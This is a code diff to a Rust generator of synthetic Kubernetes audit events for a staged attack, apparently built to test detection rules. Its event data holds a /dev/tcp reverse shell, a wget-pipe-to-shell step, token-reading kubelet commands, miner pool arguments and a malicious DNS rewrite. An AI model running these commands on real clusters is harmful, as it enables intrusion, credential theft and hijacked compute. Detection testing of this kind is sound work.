@@ -649,15 +649,15 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
         }};
     }
 
-    step!("Scan the API server with kube-hunter", "Discovery", &["PAL-K8S-057", "PAL-K8S-040"], {
+    step!("Scan the API server with kube-hunter", "Discovery", &["PAL-KA-057", "PAL-KA-040"], {
         vec![base("list", "pods", t, &mut rng).ua("kube-hunter/0.6.8").build()]
     });
-    step!("Ask what the stolen token may do", "Discovery", &["PAL-K8S-044"], {
+    step!("Ask what the stolen token may do", "Discovery", &["PAL-KA-044"], {
         vec![base("create", "selfsubjectrulesreviews", t, &mut rng)
             .req(json!({"kind":"SelfSubjectRulesReview","apiVersion":"authorization.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"namespace":ans}}))
             .build()]
     });
-    step!("Probe for permissions (forbidden requests)", "Discovery", &["PAL-K8S-045"], {
+    step!("Probe for permissions (forbidden requests)", "Discovery", &["PAL-KA-045"], {
         let mut v = Vec::new();
         for (i, res) in
             ["secrets", "configmaps", "pods", "deployments", "serviceaccounts"].iter().cycle().take(22).enumerate()
@@ -666,7 +666,7 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
         }
         v
     });
-    step!("Harvest secrets", "Credential Access", &["PAL-K8S-041", "PAL-K8S-042"], {
+    step!("Harvest secrets", "Credential Access", &["PAL-KA-041", "PAL-KA-042"], {
         let mut v = Vec::new();
         for i in 0..12 {
             let ns = if i % 2 == 0 { ans.as_str() } else { "payments" };
@@ -677,7 +677,7 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
         v.push(base("list", "secrets", t + 20_000_000, &mut rng).build());
         v
     });
-    step!("Mint a token for a kube-system service account", "Credential Access", &["PAL-K8S-036"], {
+    step!("Mint a token for a kube-system service account", "Credential Access", &["PAL-KA-036"], {
         vec![base("create", "serviceaccounts", t, &mut rng)
             .ns("kube-system")
             .name("clusterrole-aggregation-controller")
@@ -685,7 +685,7 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
             .req(json!({"kind":"TokenRequest","apiVersion":"authentication.k8s.io/v1","metadata":{"creationTimestamp":null},"spec":{"audiences":null,"expirationSeconds":31536000,"boundObjectRef":null},"status":{"token":"","expirationTimestamp":null}}))
             .build()]
     });
-    step!("Bind cluster-admin to the stolen identity", "Privilege Escalation", &["PAL-K8S-030"], {
+    step!("Bind cluster-admin to the stolen identity", "Privilege Escalation", &["PAL-KA-030"], {
         let b = binding(
             "ClusterRoleBinding",
             "",
@@ -700,7 +700,7 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
             .resp(created(b, &rng.uuid(), t))
             .build()]
     });
-    step!("Create backdoor roles", "Persistence", &["PAL-K8S-031", "PAL-K8S-032", "PAL-K8S-033"], {
+    step!("Create backdoor roles", "Persistence", &["PAL-KA-031", "PAL-KA-032", "PAL-KA-033"], {
         let r1 = role(
             "ClusterRole",
             "",
@@ -728,7 +728,7 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
                 .build(),
         ]
     });
-    step!("Open the cluster to anonymous users", "Persistence", &["PAL-K8S-034", "PAL-K8S-035"], {
+    step!("Open the cluster to anonymous users", "Persistence", &["PAL-KA-034", "PAL-KA-035"], {
         let b = binding(
             "ClusterRoleBinding",
             "",
@@ -754,7 +754,7 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
     step!(
         "Run a privileged pod with the host's namespaces and root file system in kube-system",
         "Privilege Escalation",
-        &["PAL-K8S-010", "PAL-K8S-011", "PAL-K8S-012", "PAL-K8S-014", "PAL-K8S-007"],
+        &["PAL-KA-010", "PAL-KA-011", "PAL-KA-012", "PAL-KA-014", "PAL-KA-007"],
         {
             let mut c = container("kube-proxy", "registry.evil-mirror.example:5000/k8s/kube-proxy:v1.29.3");
             c["securityContext"] = json!({"privileged": true});
@@ -774,7 +774,7 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
                 .build()]
         }
     );
-    step!("Exec into and attach to the pod", "Execution", &["PAL-K8S-001", "PAL-K8S-002"], {
+    step!("Exec into and attach to the pod", "Execution", &["PAL-KA-001", "PAL-KA-002"], {
         vec![
             base("create", "pods", t, &mut rng)
                 .ns("kube-system")
@@ -794,26 +794,21 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
                 .build(),
         ]
     });
-    step!(
-        "Inject a debugging container with ptrace into a running pod",
-        "Execution",
-        &["PAL-K8S-003", "PAL-K8S-013"],
-        {
-            let pod_name = format!("web-{}-{}", rng.suffix(10), rng.suffix(5));
-            let mut spec = pod_spec(vec![container("web", "ghcr.io/corp/shop-web:2.14.1")], &asa);
-            spec["ephemeralContainers"] = json!([{"name": "debugger-x1", "image": "busybox:1.36", "command": ["sh"], "stdin": true, "tty": true, "targetContainerName": "web", "securityContext": {"capabilities": {"add": ["SYS_PTRACE", "SYS_ADMIN"]}}}]);
-            let p = pod(&ans, &pod_name, json!({"app": "web"}), spec);
-            vec![base("patch", "pods", t, &mut rng).ns(&ans).name(&pod_name).sub("ephemeralcontainers").req(p).build()]
-        }
-    );
-    step!("Run commands through the kubelet API", "Execution", &["PAL-K8S-004"], {
+    step!("Inject a debugging container with ptrace into a running pod", "Execution", &["PAL-KA-003", "PAL-KA-013"], {
+        let pod_name = format!("web-{}-{}", rng.suffix(10), rng.suffix(5));
+        let mut spec = pod_spec(vec![container("web", "ghcr.io/corp/shop-web:2.14.1")], &asa);
+        spec["ephemeralContainers"] = json!([{"name": "debugger-x1", "image": "busybox:1.36", "command": ["sh"], "stdin": true, "tty": true, "targetContainerName": "web", "securityContext": {"capabilities": {"add": ["SYS_PTRACE", "SYS_ADMIN"]}}}]);
+        let p = pod(&ans, &pod_name, json!({"app": "web"}), spec);
+        vec![base("patch", "pods", t, &mut rng).ns(&ans).name(&pod_name).sub("ephemeralcontainers").req(p).build()]
+    });
+    step!("Run commands through the kubelet API", "Execution", &["PAL-KA-004"], {
         vec![base("create", "nodes", t, &mut rng)
             .name("node-2")
             .sub("proxy")
             .uri("/api/v1/nodes/node-2/proxy/run/kube-system/coredns-5dd5756b68-x2x9q/coredns?cmd=cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken")
             .build()]
     });
-    step!("Persist with a crypto-miner CronJob", "Persistence", &["PAL-K8S-015", "PAL-K8S-005"], {
+    step!("Persist with a crypto-miner CronJob", "Persistence", &["PAL-KA-015", "PAL-KA-005"], {
         let mut c = container("rotate", "docker.io/xmrig/xmrig:6.21.0");
         c["args"] = json!(["--donate-level=1", "-o", "pool.supportxmr.com:443", "--tls", "-k"]);
         let cj = cronjob(&ans, "log-rotate", "*/5 * * * *", pod_spec(vec![c], &asa));
@@ -827,7 +822,7 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
     step!(
         "Spread a disguised miner to every node with a DaemonSet",
         "Persistence",
-        &["PAL-K8S-016", "PAL-K8S-006", "PAL-K8S-008"],
+        &["PAL-KA-016", "PAL-KA-006", "PAL-KA-008"],
         {
             let mut c = container("exporter", "docker.io/library/alpine:3.19");
             c["command"] = json!(["sh", "-c", format!("wget -qO- http://{ip}/x.sh | sh; /tmp/.x/syslogd -o stratum+tcp://198.51.100.250:3333 --cpu-max-threads-hint 90")]);
@@ -835,24 +830,16 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
             vec![base("create", "daemonsets", t, &mut rng).ns("monitoring").name("node-exporter-ext").req(ds).build()]
         }
     );
-    step!(
-        "Register a mutating webhook and delete the policy webhook",
-        "Persistence",
-        &["PAL-K8S-050", "PAL-K8S-051"],
-        {
-            let mw = json!({"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"pod-defaults.k8s.io"},"webhooks":[{"name":"pod-defaults.k8s.io","clientConfig":{"url":format!("https://{ip}:8443/mutate")},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods","secrets"]}],"sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore"}]});
-            vec![
-                base("create", "mutatingwebhookconfigurations", t, &mut rng)
-                    .name("pod-defaults.k8s.io")
-                    .req(mw)
-                    .build(),
-                base("delete", "validatingwebhookconfigurations", t + 2_000_000, &mut rng)
-                    .name("gatekeeper-validating-webhook-configuration")
-                    .build(),
-            ]
-        }
-    );
-    step!("Sidecar injected into new pods by the rogue webhook", "Persistence", &["PAL-K8S-017"], {
+    step!("Register a mutating webhook and delete the policy webhook", "Persistence", &["PAL-KA-050", "PAL-KA-051"], {
+        let mw = json!({"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"pod-defaults.k8s.io"},"webhooks":[{"name":"pod-defaults.k8s.io","clientConfig":{"url":format!("https://{ip}:8443/mutate")},"rules":[{"operations":["CREATE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["pods","secrets"]}],"sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore"}]});
+        vec![
+            base("create", "mutatingwebhookconfigurations", t, &mut rng).name("pod-defaults.k8s.io").req(mw).build(),
+            base("delete", "validatingwebhookconfigurations", t + 2_000_000, &mut rng)
+                .name("gatekeeper-validating-webhook-configuration")
+                .build(),
+        ]
+    });
+    step!("Sidecar injected into new pods by the rogue webhook", "Persistence", &["PAL-KA-017"], {
         let pod_name = format!("checkout-{}-{}", rng.suffix(10), rng.suffix(5));
         let p = pod(
             &ans,
@@ -873,14 +860,14 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
             .annotate("patch.webhook.admission.k8s.io/round_0_index_0", r#"{"configuration":"pod-defaults.k8s.io","webhook":"pod-defaults.k8s.io","patch":[{"op":"add","path":"/spec/containers/-","value":{"name":"istio-proxy","image":"198.51.100.250:5000/proxy:1"}}],"patchType":"JSONPatch"}"#)
             .build()]
     });
-    step!("Rewrite cluster DNS", "Credential Access", &["PAL-K8S-052"], {
+    step!("Rewrite cluster DNS", "Credential Access", &["PAL-KA-052"], {
         vec![base("patch", "configmaps", t, &mut rng)
             .ns("kube-system")
             .name("coredns")
             .req(json!({"data":{"Corefile":".:53 {\n    errors\n    rewrite name regex (.*)\\.payments\\.svc\\.cluster\\.local evil.example.net\n    kubernetes cluster.local in-addr.arpa ip6.arpa\n    forward . /etc/resolv.conf\n    cache 30\n}\n"}}))
             .build()]
     });
-    step!("Mint and approve a client certificate", "Credential Access", &["PAL-K8S-039", "PAL-K8S-038"], {
+    step!("Mint and approve a client certificate", "Credential Access", &["PAL-KA-039", "PAL-KA-038"], {
         let csr_name = format!("csr-{}", rng.suffix(5));
         let csr = json!({"kind":"CertificateSigningRequest","apiVersion":"certificates.k8s.io/v1","metadata":{"name":csr_name},"spec":{"request":"LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K","signerName":"kubernetes.io/kube-apiserver-client","expirationSeconds":31536000,"usages":["client auth"]}});
         vec![
@@ -891,7 +878,7 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
                 .build(),
         ]
     });
-    step!("Expose the dashboard and a node port", "Initial Access", &["PAL-K8S-054", "PAL-K8S-055"], {
+    step!("Expose the dashboard and a node port", "Initial Access", &["PAL-KA-054", "PAL-KA-055"], {
         vec![
             base("create", "services", t, &mut rng)
                 .ns("kubernetes-dashboard")
@@ -914,7 +901,7 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
     step!(
         "Cover tracks: delete events, remove Falco, relax pod security",
         "Defense Evasion",
-        &["PAL-K8S-053", "PAL-K8S-058", "PAL-K8S-019"],
+        &["PAL-KA-053", "PAL-KA-058", "PAL-KA-019"],
         {
             vec![
                 base("deletecollection", "events", t, &mut rng).ns("kube-system").build(),
@@ -929,7 +916,7 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
     step!(
         "Keep access: long-lived token and a service account in kube-system",
         "Persistence",
-        &["PAL-K8S-037", "PAL-K8S-046"],
+        &["PAL-KA-037", "PAL-KA-046"],
         {
             vec![
             base("create", "serviceaccounts", t, &mut rng).ns("kube-system").name("kube-backup").req(json!({"kind":"ServiceAccount","apiVersion":"v1","metadata":{"name":"kube-backup","namespace":"kube-system"}})).build(),
@@ -941,14 +928,14 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
         ]
         }
     );
-    step!("Impersonate a cluster administrator", "Privilege Escalation", &["PAL-K8S-043"], {
+    step!("Impersonate a cluster administrator", "Privilege Escalation", &["PAL-KA-043"], {
         vec![base("get", "secrets", t, &mut rng)
             .ns("kube-system")
             .name("bootstrap-token-abcdef")
             .impersonate("system:admin", &["system:masters", "system:authenticated"])
             .build()]
     });
-    step!("A static pod appears on a node", "Persistence", &["PAL-K8S-018"], {
+    step!("A static pod appears on a node", "Persistence", &["PAL-KA-018"], {
         let name = format!("kube-metrics-node-{}", 3 + k % 3);
         let mut p = pod(
             "kube-system",
@@ -969,7 +956,7 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
             .req(p)
             .build()]
     });
-    step!("Drop a reverse shell", "Execution", &["PAL-K8S-008"], {
+    step!("Drop a reverse shell", "Execution", &["PAL-KA-008"], {
         let mut c = container("debug", "ghcr.io/corp/tools:1.0");
         c["command"] = json!(["/bin/bash", "-c", format!("bash -i >& /dev/tcp/{ip}/4444 0>&1")]);
         let p = pod(&ans, "debug", json!({"run": "debug"}), pod_spec(vec![c], &asa));
@@ -978,7 +965,7 @@ pub fn attack_story(seed: u64, start_us: i64, k: usize) -> Vec<Step> {
     step!(
         "Destroy: mass deletion, namespace and node deletion",
         "Impact",
-        &["PAL-K8S-056", "PAL-K8S-059", "PAL-K8S-060"],
+        &["PAL-KA-056", "PAL-KA-059", "PAL-KA-060"],
         {
             let mut v = Vec::new();
             for i in 0..22 {
